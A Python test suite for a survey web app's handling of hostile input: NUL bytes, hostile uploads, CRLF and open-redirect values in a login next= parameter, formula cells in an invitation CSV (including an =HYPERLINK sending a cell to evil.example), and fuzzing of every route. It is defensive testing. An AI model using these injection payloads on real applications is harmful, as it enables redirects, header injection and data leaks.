"""Hostile input on a real app, on SQLite and PostgreSQL: each finding of the attack in
issue 14 (NUL bytes, hostile questionnaire uploads, a failing statement in a console
request, next= with CR/LF, seeds out of range, a report on a constant item, 405 without
Allow, formula cells in the invitation CSV) gets a clear 4xx (or a calm page) with the
security headers, and a walk over every route with NUL, invalid UTF-8, 1 MB and deeply
nested inputs finds no 500 anywhere."""
import csv
import html
import io
import re

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import func, select, text
from sqlalchemy.orm import Session

from models.storage import find_wave
from models.storage.tables import Answer, Invitation, Response, QuestionnaireVersion

from ..models.test_questionnaire_limits import HOSTILE
from .conftest import Respondent, https_client
from .test_admin import accounts, admin_client, csrf_of, fielded, login  # noqa: F401  (fixtures)


def assert_security_headers(response, what=""):
    assert response.headers.get("X-Frame-Options") == "DENY", (what, response.status_code)
    assert "frame-ancestors 'none'" in response.headers.get("Content-Security-Policy", ""), what
    assert response.headers.get("X-Content-Type-Options") == "nosniff", what
    assert response.headers.get("Referrer-Policy") == "no-referrer", what


def count(engine, table):
    with Session(engine) as session:
        return session.scalar(select(func.count()).select_from(table))


def wave_id(engine, name="2026Q4"):
    with Session(engine) as session:
        return find_wave(session, "acsi-retail", name).id


# -- questionnaire uploads ---------------------------------------------------------------

UPLOADS = {**HOSTILE, "version over 32 characters (PostgreSQL's column)": (
    HOSTILE["integer over 4,300 digits"][0].replace("9" * 5000, "v" * 40),
    "q.yaml:2: version: '" + "v" * 40 + "' is too long")}


def test_hostile_questionnaire_uploads_are_422_with_the_loaders_message(admin_client, engine):
    surveys = count(engine, QuestionnaireVersion)
    for name, (content, expected) in UPLOADS.items():
        token = csrf_of(admin_client.get("/admin/").get_data(as_text=True))
        response = admin_client.post("/admin/questionnaires", content_type="multipart/form-data",
                                     data={"csrf_token": token, "file": (io.BytesIO(content.encode()), "q.yaml")})
        assert response.status_code == 422, (name, response.status_code)
        assert expected in html.unescape(response.get_data(as_text=True)), name
        assert_security_headers(response, name)
    assert count(engine, QuestionnaireVersion) == surveys


# -- NUL bytes ---------------------------------------------------------------------------

def test_nul_in_an_answer_is_refused_and_nothing_is_stored(client, acsi, engine):
    person = Respondent(client, acsi)
    page = person.answer(person.start())
    before = count(engine, Answer)
    data = person.page_data(page)
    field = page.question_ids[0]
    data[field] = "5\x00"
    response = client.post(page.url, data=data)
    assert response.status_code == 400
    assert "NUL character" in response.get_data(as_text=True)
    assert_security_headers(response)
    assert count(engine, Answer) == before
    # The same page then goes through as usual: nothing was half-stored.
    assert person.answer(page).status == 200


def test_nul_in_a_follow_up_note_is_refused(app, accounts, engine, acsi):
    person = Respondent(https_client(app), acsi, {"sat_overall": "1", "complained": "no"})
    person.finish(person.start())
    with Session(engine) as session:
        response_id = session.scalar(select(Response.id).where(Response.follow_up.is_(True)))
    client = https_client(app)
    login(client)
    token = csrf_of(client.get(f"/admin/follow-up/{response_id}").get_data(as_text=True))
    response = client.post(f"/admin/follow-up/{response_id}",
                           data={"csrf_token": token, "status": "called", "note": "rang\x00back"})
    assert response.status_code == 400 and "NUL character" in response.get_data(as_text=True)
    assert_security_headers(response)
    with Session(engine) as session:
        stored = session.get(Response, response_id)
        assert stored.follow_up_status == "open" and stored.follow_up_note is None


@pytest.mark.parametrize("url", ["/s/acsi-retail%00/2026Q4", "/s/acsi-retail/2026Q4%00", "/i/abc%00def",
                                 "/s/acsi-retail/2026Q4?lang=en%00", "/s/acsi-retail/2026Q4?x%00=1",
                                 "/admin/login?next=/admin/%00", "/nowhere%00"])
def test_nul_in_a_path_or_query_is_400(client, url):
    response = client.get(url)
    assert response.status_code == 400, url
    assert "NUL character" in response.get_data(as_text=True)
    assert_security_headers(response, url)


def test_nul_on_the_api_is_400_json(client, accounts):
    auth = {"Authorization": f"Bearer {accounts['token']}"}
    for url in ("/api/v1/surveys/acsi%00/waves/2026Q4/responses", "/api/v1/surveys?x=%00",
                "/api/v1/surveys/acsi-retail/waves/2026Q4/indices?seed=1%00"):
        response = client.get(url, headers=auth)
        assert response.status_code == 400 and response.is_json, url
        assert "NUL character" in response.json["error"]
        assert_security_headers(response, url)


# -- a failing statement inside a request --------------------------------------------------

def test_failing_statement_in_a_console_request_gets_the_calm_page(admin_client, engine, accounts):
    wid = wave_id(engine)
    with engine.begin() as connection:  # every query of the answers table now fails
        connection.execute(text("ALTER TABLE answers RENAME TO answers_gone"))
    response = admin_client.get(f"/admin/waves/{wid}")
    assert response.status_code == 500
    body = response.get_data(as_text=True)
    assert "Something went wrong" in body and "Traceback" not in body
    assert_security_headers(response)
    api = admin_client.get("/api/v1/surveys/acsi-retail/waves/2026Q4/responses",
                           headers={"Authorization": f"Bearer {accounts['token']}"})
    assert api.status_code == 500 and api.is_json and "error" in api.json
    assert_security_headers(api)
    # The console's session was rolled back: the next request works as usual.
    assert admin_client.get("/admin/").status_code == 200
    with engine.begin() as connection:
        connection.execute(text("ALTER TABLE answers_gone RENAME TO answers"))
    assert admin_client.get(f"/admin/waves/{wid}").status_code == 200


# -- next=, seed, report, 405 -------------------------------------------------------------

@pytest.mark.parametrize("target", ["/admin/%0d%0aSet-Cookie:%20x=1", "/admin%0d%0aLocation:%20https://evil.example",
                                    "/admin/%0a", "/admin/%09x", "https://evil.example/admin/", "//evil.example/admin",
                                    "/admin@evil.example", "/adminx", "/\\evil.example", "/admin\\..\\x", ""])
def test_login_next_is_refused_unless_a_console_path(app, accounts, target):
    client = https_client(app)
    response = login(client, next_url=target)
    assert response.status_code == 302
    assert response.headers["Location"] == "/admin/"
    assert_security_headers(response)


def test_login_next_keeps_a_console_path(app, accounts):
    response = login(https_client(app), next_url="/admin/follow-up%3Fstatus%3Dall")
    assert response.status_code == 302 and response.headers["Location"] == "/admin/follow-up?status=all"


@pytest.mark.parametrize("query, message", [
    ("seed=-1", "seed must be between 0 and 4294967295"), ("seed=4294967296", "seed must be between"),
    ("seed=" + "9" * 5000, "boot and seed must be integers"), ("boot=-1", "boot must be between 0 and 5000"),
    ("seed=1.5", "boot and seed must be integers"), ("boots=10", "unknown query parameter 'boots'"),
])
def test_indices_parameters_out_of_range_are_400_json(client, accounts, query, message):
    response = client.get(f"/api/v1/surveys/acsi-retail/waves/2026Q4/indices?{query}",
                          headers={"Authorization": f"Bearer {accounts['token']}"})
    assert response.status_code == 400 and response.is_json
    assert message in response.json["error"]
    assert_security_headers(response)


def test_report_on_a_wave_with_a_constant_item_is_a_message(app, admin_client, engine, fielded, tmp_path,
                                                            monkeypatch):
    """The console's report runs as a job: its failure is the job's error, in one sentence
    naming the item; the API's fresh fit answers 422."""
    from models.storage import jobs as job_store
    from survey_app.jobs import run_job

    app.config["QUEUE_FILE"] = str(tmp_path / "queue.sqlite3")
    monkeypatch.setenv("CSI_REPORTS_DIR", str(tmp_path / "reports"))
    with engine.begin() as connection:
        connection.execute(text("UPDATE answers SET value_num = 7 WHERE question_id = 'sat_overall'"))
    wid = wave_id(engine)
    token = csrf_of(admin_client.get(f"/admin/waves/{wid}").get_data(as_text=True))
    response = admin_client.post(f"/admin/waves/{wid}/report", data={"csrf_token": token, "lang": "en"})
    assert response.status_code == 302
    job_id = int(re.fullmatch(r"/admin/jobs/(\d+)", response.headers["Location"]).group(1))
    run_job(engine, job_id, "test")
    job = job_store.get_job(engine, job_id)
    assert job.status == "failed" and re.search(r"sat_overall.* has the same value \(7\) for every respondent", job.error)
    page = admin_client.get(f"/admin/jobs/{job_id}").get_data(as_text=True)
    assert "same value (7)" in html.unescape(page) and "Traceback" not in page
    api = admin_client.get("/api/v1/surveys/acsi-retail/waves/2026Q4/indices?boot=0",
                           headers={"Authorization": f"Bearer {fielded_token(engine)}"})
    assert api.status_code == 422 and "same value" in api.json["error"]


def fielded_token(engine):
    from models.storage.accounts import create_api_token
    with Session(engine) as session:
        token = create_api_token(session, "alice", "report test")
        session.commit()
    return token


@pytest.mark.parametrize("method, url, allowed", [
    ("DELETE", "/s/acsi-retail/2026Q4", {"GET"}), ("PUT", "/s/acsi-retail/2026Q4/p/1", {"GET", "POST"}),
    ("GET", "/admin/logout", {"POST"}), ("PATCH", "/admin/waves", {"POST"}),
    ("POST", "/api/v1/surveys", {"GET"}), ("DELETE", "/api/v1/openapi.json", {"GET"}),
])
def test_405_carries_allow(client, method, url, allowed):
    response = client.open(url, method=method)
    assert response.status_code == 405
    assert allowed <= {m.strip() for m in response.headers["Allow"].split(",")}
    assert response.is_json == url.startswith("/api/")
    assert_security_headers(response)


# -- the invitation-links CSV --------------------------------------------------------------

def post_invitations(admin_client, wid, content: bytes):
    token = csrf_of(admin_client.get(f"/admin/waves/{wid}").get_data(as_text=True))
    return admin_client.post(f"/admin/waves/{wid}/invitations", content_type="multipart/form-data",
                             data={"csrf_token": token, "file": (io.BytesIO(content), "people.csv")})


def test_invitation_links_csv_neutralizes_formula_cells(admin_client, engine):
    wid = wave_id(engine)
    upload = ('region,=cmd\n"=HYPERLINK(""http://evil.example/?""&A1,""x"")",-2+3\n'
              '@SUM(A1),-5\n"\tx","\rx"\nnorth,+1+1\n').encode()
    response = post_invitations(admin_client, wid, upload)
    assert response.status_code == 200 and response.mimetype == "text/csv"
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")  # a BOM: Excel then reads the file as UTF-8
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))
    assert rows[0] == ["region", "'=cmd", "link"]
    cells = [row[:2] for row in rows[1:]]
    assert cells == [["'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "'-2+3"], ["'@SUM(A1)", "-5"],
                     ["x", "x"], ["north", "'+1+1"]]  # (tab and CR around "x" are stripped on upload)
    assert all(row[2].startswith("https://localhost/i/") for row in rows[1:])


@pytest.mark.parametrize("content, message", [
    (b"region\nno\x00rth\n", "people.csv:2: a cell contains a NUL character"),
    (b"region\n\"" + b"x" * 200_000 + b"\"\n", "people.csv:1: field larger than field limit"),
])
def test_invitation_csv_that_cannot_be_stored_is_a_message(app, admin_client, engine, content, message):
    # (The app-wide body limit is raised here: that a 200 KB upload is refused before the
    # admin route raises its own limit is another finding of issue 14, fixed separately.)
    app.config["MAX_CONTENT_LENGTH"] = 16 * 1024 * 1024
    wid = wave_id(engine)
    before = count(engine, Invitation)
    response = post_invitations(admin_client, wid, content)
    assert response.status_code == 302
    page = admin_client.get(response.headers["Location"]).get_data(as_text=True)
    assert message in html.unescape(page)
    assert count(engine, Invitation) == before


# -- every route, every kind of hostile input ------------------------------------------------

MEGABYTE = 1_000_000
FIELDS = ["csrf_token", "submission_id", "nav", "exp_overall", "comments", "note", "status", "name",
          "questionnaire_id", "action", "open", "username", "password", "contact_phone", "contact_email", "lang"]
QUERY = ["next", "lang", "format", "layout", "status", "compare", "view", "boot", "seed"]
NESTED = "[" * 50_000 + "]" * 50_000


def hostile_requests(kind: str):
    """(path value, query string, request kwargs for a body) for one kind of hostile input."""
    if kind == "nul":
        return "a%00b", "&".join(f"{q}=x%00y" for q in QUERY), {"data": {f: "x\x00y" for f in FIELDS}}
    if kind == "invalid utf-8":
        body = "&".join(f"{f}=%ff%fe%c3" for f in FIELDS).encode() + b"&raw=\xff\xfe\xc3\x28"
        return "%ff%fe%c3%28", "&".join(f"{q}=%ff%fe" for q in QUERY) + "&%c3%28=1", {
            "data": body, "content_type": "application/x-www-form-urlencoded"}
    if kind == "huge":
        big = "x" * MEGABYTE
        return "y" * MEGABYTE, f"next={big}&lang={big}", {
            "data": {**{f: "z" for f in FIELDS}, "comments": big, "file": (io.BytesIO(big.encode()), "big.csv")},
            "content_type": "multipart/form-data"}
    assert kind == "deeply nested"
    return "%5B" * 10_000, "&".join(f"{'a[' * 2000}{i}{']' * 2000}=1" for i in range(3)) + f"&boot={NESTED[:5000]}", {
        "data": NESTED, "content_type": "application/json"}


def route_urls(app, path_value: str):
    """(endpoint, method, url) for every rule; string parts get ``path_value``, int parts a real-looking id."""
    out = []
    for rule in app.url_map.iter_rules():
        def fill(match):
            converter, name = match.group(1), match.group(2)
            if converter == "int":
                return "1"
            if name == "filename":
                return "style.css" if path_value is None else path_value
            return path_value
        url = re.sub(r"<(?:(\w+):)?(\w+)>", fill, rule.rule)
        for method in sorted(rule.methods - {"HEAD", "OPTIONS"}):
            out.append((rule.endpoint, method, url))
    return out


@pytest.mark.parametrize("kind", ["nul", "invalid utf-8", "huge", "deeply nested"])
def test_every_route_survives_hostile_input(app, accounts, engine, kind):
    path_value, query, body = hostile_requests(kind)
    stored = [count(engine, table) for table in (Answer, Response, QuestionnaireVersion, Invitation)]
    admin = https_client(app)
    assert login(admin).status_code == 302
    clients = {"anonymous": (https_client(app), {}), "admin": (admin, {}),
               "api token": (https_client(app), {"Authorization": f"Bearer {accounts['token']}"})}
    app.config.update(CSRF_ENABLED=False, WTF_CSRF_ENABLED=False)  # so that posts reach their views
    routes = route_urls(app, path_value)
    assert len(routes) >= 20
    seen = 0
    for who, (client, headers) in clients.items():
        for endpoint, method, url in routes:
            if who == "api token" and not url.startswith("/api/"):
                continue  # (a bearer token opens nothing else)
            for target in (url, url.replace(path_value, "acsi-retail") + "?" + query):
                kwargs = dict(body) if method == "POST" else {}
                if "data" in kwargs and isinstance(kwargs["data"], dict):
                    kwargs["data"] = {k: (io.BytesIO(v[0].getvalue()), v[1]) if isinstance(v, tuple) else v
                                      for k, v in kwargs["data"].items()}
                response = client.open(target, method=method, headers=headers, **kwargs)
                what = (kind, who, endpoint, method, target[:80], response.status_code)
                assert response.status_code < 500, what
                assert_security_headers(response, what)
                if target.startswith("/api/") and response.status_code != 302:
                    assert response.is_json, what
                if kind == "nul" and "%00" in target:
                    assert response.status_code == 400, what
                seen += 1
    assert seen == 2 * 2 * (len(routes) + sum(url.startswith("/api/") for _, _, url in routes) / 2)
    if kind == "nul":  # every request refused at the door
        assert [count(engine, table) for table in (Answer, Response, QuestionnaireVersion, Invitation)] == stored


# -- hypothesis: any text in an answer and in the contact form, on both backends ----------------

ANY_TEXT = st.text(st.characters(codec="utf-8"), max_size=60)  # all of Unicode but lone surrogates, NUL included
NUL_TEXT = st.builds(lambda a, b: a + "\x00" + b, ANY_TEXT, ANY_TEXT)


@settings(max_examples=15, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(comment=st.one_of(ANY_TEXT, NUL_TEXT), extra=st.dictionaries(ANY_TEXT, st.one_of(ANY_TEXT, NUL_TEXT), max_size=2))
def test_any_text_answer_is_stored_exactly_or_refused(app, acsi, engine, comment, extra):
    client = https_client(app)  # a new respondent each time: the comments page ends the survey
    person = Respondent(client, acsi)
    page = person.advance_to(person.start(), "comments")
    before = count(engine, Answer)
    data = {**extra, **person.page_data(page, overrides={"comments": comment})}
    response = client.post(page.url, data=data)
    assert response.status_code < 500
    assert_security_headers(response)
    if any("\x00" in key or "\x00" in str(value) for key, value in data.items()):
        assert response.status_code == 400 and count(engine, Answer) == before
    elif response.status_code in (200, 302) and comment.strip():
        with Session(engine) as session:
            stored = session.scalars(select(Answer.value_text).where(Answer.question_id == "comments")).all()
        assert comment.strip() in {s.strip() for s in stored if s is not None}


@settings(max_examples=20, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(fields=st.fixed_dictionaries({"name": st.one_of(ANY_TEXT, NUL_TEXT), "phone": st.one_of(ANY_TEXT, NUL_TEXT),
                                     "email": ANY_TEXT, "consent": st.sampled_from(["yes", "", "\x00"])}))
def test_any_contact_form_is_stored_or_refused(app, acsi, engine, fields):
    client = https_client(app)
    person = Respondent(client, acsi, {"sat_overall": "1", "complained": "no"})
    done = person.finish(person.start())

    def contacts():
        with Session(engine) as session:
            return session.scalar(select(func.count()).select_from(Response).where(Response.contact.is_not(None)))

    before = contacts()
    response = client.post(done.url, data={"csrf_token": done.csrf, **fields})
    assert response.status_code < 500
    assert_security_headers(response)
    if any("\x00" in value for value in fields.values()):
        assert response.status_code == 400 and contacts() == before
